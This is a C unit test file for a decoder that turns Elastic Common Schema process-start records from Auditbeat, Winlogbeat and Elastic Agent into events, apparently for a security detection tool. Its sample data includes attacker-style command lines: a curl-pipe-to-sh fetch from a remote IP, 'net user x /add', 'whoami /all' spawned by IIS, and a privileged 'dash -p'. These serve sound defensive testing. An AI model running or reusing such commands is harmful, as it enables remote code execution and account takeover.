/* The ECS process decoder (src/decode/ecs_process.c), on hand-written
 * records and on tests/fixtures/ecs-process.jsonl (Auditbeat, Winlogbeat
 * and Elastic Agent shapes). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "decfixture.h"
#include "decode/decoder.h"
#include "decode/json.h"
#include "util/buf.h"


DECFX_SETUP(ecs_decoder)

/* The process start in this line, or NULL. */
static const struct proc_exec *feed(struct fixture *f, const char *json, uint64_t offset) {
    decfx_begin(f, json, offset);
    if (!ecs_decoder.next(f->dec, &f->ev)) return NULL;
    assert_int_equal(f->ev.kind, EV_PROC_EXEC);
    assert_int_equal(f->ev.layer, LAYER_HOST);
    struct event more;
    assert_int_equal(ecs_decoder.next(f->dec, &more), 0);
    return f->ev.u.proc;
}

static void assert_vstr(vstr s, const char *want) {
    char got[512];
    snprintf(got, sizeof got, "%.*s", (int)s.n, s.p ? s.p : "");
    assert_string_equal(got, want);
}

static const char *report(struct fixture *f) {
    static char out[2048];
    buf b;
    buf_init(&b);
    ecs_decoder.report(f->dec, &b);
    snprintf(out, sizeof out, "%s", buf_cstr(&b));
    buf_free(&b);
    return out;
}

/* Dotted keys, nested objects and a mix of both read the same. */
static void test_dotted_and_nested(void **state) {
    struct fixture *f = *state;
    static const char *const shapes[] = {
        "{\"@timestamp\":\"2024-01-02T03:04:05.5Z\",\"event.category\":\"process\",\"event.type\":\"start\","
        "\"process.pid\":42,\"process.parent.pid\":7,\"process.executable\":\"/usr/bin/wget\","
        "\"process.args\":[\"wget\",\"http://x/y\"],\"host.name\":\"n1\",\"host.os.type\":\"linux\"}",
        "{\"@timestamp\":\"2024-01-02T03:04:05.5Z\",\"event\":{\"category\":[\"process\"],\"type\":[\"start\"]},"
        "\"process\":{\"pid\":42,\"parent\":{\"pid\":7},\"executable\":\"/usr/bin/wget\",\"args\":[\"wget\",\"http://x/y\"]},"
        "\"host\":{\"name\":\"n1\",\"os\":{\"type\":\"linux\"}}}",
        "{\"@timestamp\":\"2024-01-02T03:04:05.5Z\",\"event\":{\"category\":\"process\",\"type\":\"start\"},"
        "\"process\":{\"pid\":\"42\",\"parent.pid\":7,\"executable\":\"/usr/bin/wget\",\"args\":[\"wget\",\"http://x/y\"]},"
        "\"host.name\":\"n1\",\"host\":{\"os.type\":\"linux\"}}",
    };
    for (size_t i = 0; i < 3; i++) {
        const struct proc_exec *p = feed(f, shapes[i], 10);
        assert_non_null(p);
        assert_int_equal(f->ev.time_us, INT64_C(1704164645500000));
        assert_int_equal(f->ev.pos.offset, 10);
        assert_int_equal(p->pid, 42);
        assert_int_equal(p->ppid, 7);
        assert_int_equal(p->parent_pid_ecs, 7);
        assert_vstr(p->exe, "/usr/bin/wget");
        assert_vstr(p->name, "wget");            /* from the executable */
        assert_int_equal(p->argc, 2);
        assert_vstr(p->command_line, "wget http://x/y");  /* joined from args */
        assert_vstr(p->host, "n1");
        assert_int_equal(p->os, PROC_OS_LINUX);
        assert_int_equal(p->success, -1);
        assert_int_equal(p->serial, 0);
    }
}

/* A Windows command line is never split into argv. */
static void test_windows_command_line(void **state) {
    struct fixture *f = *state;
    const struct proc_exec *p = feed(f,
        "{\"@timestamp\":\"2024-01-02T03:04:05Z\",\"event\":{\"code\":4688,\"action\":\"created-process\"},"
        "\"host\":{\"name\":\"dc1\",\"os\":{\"family\":\"windows\"}},\"process\":{\"pid\":5112,"
        "\"executable\":\"C:\\\\Windows\\\\System32\\\\net.exe\",\"command_line\":\"net user x /add\"}}", 0);
    assert_non_null(p);
    assert_int_equal(p->argc, 0);
    assert_vstr(p->command_line, "net user x /add");
    assert_vstr(p->name, "net.exe");
    assert_int_equal(p->os, PROC_OS_WINDOWS);
}

/* Sysmon event 1 without ECS categories (Winlogbeat without its pipeline). */
static void test_sysmon_without_category(void **state) {
    struct fixture *f = *state;
    const struct proc_exec *p = feed(f,
        "{\"@timestamp\":\"2024-01-02T03:04:05Z\",\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\","
        "\"event_id\":1},\"process\":{\"pid\":1,\"executable\":\"C:\\\\x.exe\"},\"host\":{\"os\":{\"platform\":\"windows\"}}}", 0);
    assert_non_null(p);
    assert_int_equal(p->os, PROC_OS_WINDOWS);
    /* Sysmon event 3 is a network connection, not a start */
    assert_null(feed(f,
        "{\"@timestamp\":\"2024-01-02T03:04:05Z\",\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\","
        "\"event_id\":3},\"process\":{\"pid\":1}}", 0));
}

/* Other events are counted, not rejected; bad records are rejected with
 * their offset, and the decoder goes on. */
static void test_counts_and_rejects(void **state) {
    struct fixture *f = *state;
    assert_null(feed(f, "{\"@timestamp\":\"2024-01-02T03:04:05Z\",\"event\":{\"category\":[\"network\"],"
                        "\"type\":[\"connection\",\"start\"]}}", 0));
    assert_null(feed(f, "{\"@timestamp\":\"2024-01-02T03:04:05Z\",\"event\":{\"category\":[\"process\"],"
                        "\"type\":[\"end\"]}}", 100));
    assert_null(feed(f, "{\"@timestamp\":\"2024-01-02T03:04:05Z\",\"message\":\"hello\"}", 200));
    assert_int_equal(rejects_total(f->rj), 0);
    assert_null(feed(f, "[1,2,3]", 300));
    assert_null(feed(f, "{\"event\":{\"category\":\"process\",\"type\":\"start\"},\"process\":{\"pid\":1}}", 400));
    assert_null(feed(f, "{\"@timestamp\":\"yesterday\",\"event\":{\"category\":\"process\",\"type\":\"start\"}}", 500));
    assert_null(feed(f, "{\"@timestamp\":\"2024-01-02T03:04:05Z\",\"process\":{\"pid\":", 600));
    assert_int_equal(rejects_total(f->rj), 4);
    buf b;
    buf_init(&b);
    rejects_summary(f->rj, &b);
    assert_non_null(strstr(buf_cstr(&b), "not a JSON object (first: test offset 300)"));
    assert_non_null(strstr(buf_cstr(&b), "without a valid @timestamp (first: test offset 400)"));
    buf_free(&b);
    assert_non_null(feed(f, "{\"@timestamp\":\"2024-01-02T03:04:05Z\",\"event\":{\"category\":\"process\","
                            "\"action\":\"exec\"},\"process\":{\"pid\":9}}", 700));
    const char *r = report(f);
    assert_non_null(strstr(r, "1 process starts"));
    assert_non_null(strstr(r, "1 other process events"));
    assert_non_null(strstr(r, "network 1"));
    assert_non_null(strstr(r, "without category 1"));
}

/* The fixture: real shapes of Auditbeat (auditd, system/process),
 * Winlogbeat (Sysmon 1, Security 4688), Elastic Agent, a dotted variant. */
static void test_fixture(void **state) {
    struct fixture *f = *state;
    const char *dir = getenv("VIGIL_TESTS");
    if (!dir) skip();
    char path[1024];
    snprintf(path, sizeof path, "%s/fixtures/ecs-process.jsonl", dir);
    FILE *in = fopen(path, "r");
    assert_non_null(in);
    char line[8192];
    int starts = 0;
    uint64_t off = 0;
    while (fgets(line, sizeof line, in)) {
        size_t n = strlen(line);
        uint64_t at = off;
        off += n;
        if (n && line[n - 1] == '\n') line[--n] = 0;
        const struct proc_exec *p = feed(f, line, at);
        if (!p) continue;
        starts++;
        if (p->pid == 2380168) {                /* Auditbeat auditd */
            assert_int_equal(p->uid, 1005);
            assert_int_equal(p->euid, 0);
            assert_int_equal(p->auid, 1005);
            assert_vstr(p->user, "alice");
            assert_vstr(p->cwd, "/home/alice");
            assert_vstr(p->command_line, "dash -p");
        } else if (p->pid == 4640) {            /* Sysmon under IIS */
            assert_vstr(p->parent_name, "w3wp.exe");
            assert_int_equal(p->ppid, 3204);
            assert_int_equal(p->argc, 4);
            assert_vstr(p->command_line, "\"C:\\Windows\\system32\\cmd.exe\" /c whoami /all");
            assert_vstr(p->user, "DefaultAppPool");
            assert_int_equal(p->uid, -1);       /* a SID is no number */
        } else if (p->pid == 90211) {           /* Elastic Agent in a container */
            assert_vstr(p->container_name, "payments-api");
            assert_vstr(p->container_image, "registry.example/payments-api:1.4.2");
            assert_vstr(p->parent_command_line, "sh -c curl -s http://198.51.100.23/x.sh | sh");
        } else if (p->pid == 4321) {            /* Auditbeat system/process: process.ppid */
            assert_int_equal(p->ppid, 1);
            assert_int_equal(p->os, PROC_OS_LINUX);   /* from host.os.family redhat */
        }
    }
    fclose(in);
    assert_int_equal(starts, 6);
    assert_int_equal(rejects_total(f->rj), 0);
}

static void test_sniff(void **state) {
    (void)state;
    assert_true(ecs_decoder.sniff(VSTR("{\"@timestamp\":\"x\",\"ecs\":{\"version\":\"8.0.0\"},\"event\":{},\"process\":{}}")) >= 50);
    assert_true(ecs_decoder.sniff(VSTR("{\"@timestamp\":\"x\",\"event.category\":\"process\",\"process.pid\":1}")) >= 50);
    /* a Beat shipping a Key Vault record or a Kubernetes audit event: theirs */
    assert_int_equal(ecs_decoder.sniff(VSTR("{\"@timestamp\":\"x\",\"ecs\":{},\"event\":{},\"process\":{},"
                                            "\"message\":\"{\\\"category\\\":\\\"AuditEvent\\\"}\"}")), 0);
    assert_int_equal(ecs_decoder.sniff(VSTR("{\"kind\":\"Event\",\"auditID\":\"1\",\"stage\":\"x\",\"verb\":\"get\"}")), 0);
    assert_int_equal(ecs_decoder.sniff(VSTR("type=SYSCALL msg=audit(1.2:3): pid=1\n")), 0);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_dotted_and_nested, setup, teardown),
        cmocka_unit_test_setup_teardown(test_windows_command_line, setup, teardown),
        cmocka_unit_test_setup_teardown(test_sysmon_without_category, setup, teardown),
        cmocka_unit_test_setup_teardown(test_counts_and_rejects, setup, teardown),
        cmocka_unit_test_setup_teardown(test_fixture, setup, teardown),
        cmocka_unit_test(test_sniff),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
